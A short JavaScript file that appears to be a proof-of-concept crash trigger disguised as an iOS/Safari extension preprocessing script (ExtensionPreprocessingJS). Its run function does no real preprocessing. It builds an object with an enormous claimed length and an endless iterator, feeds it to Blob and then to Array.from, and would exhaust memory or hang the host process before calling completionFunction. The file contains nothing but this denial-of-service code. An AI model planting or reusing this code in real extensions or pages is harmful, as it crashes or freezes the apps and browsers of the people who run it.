var ExtensionPreprocessingJS = { run(a) {
const list = { length: 2 ** 53 - 1, [Symbol.iterator]: function* () { for (;;) yield 1 } };
try { new Blob(list) } catch {}
Array.from(list);
a.completionFunction({});
} };
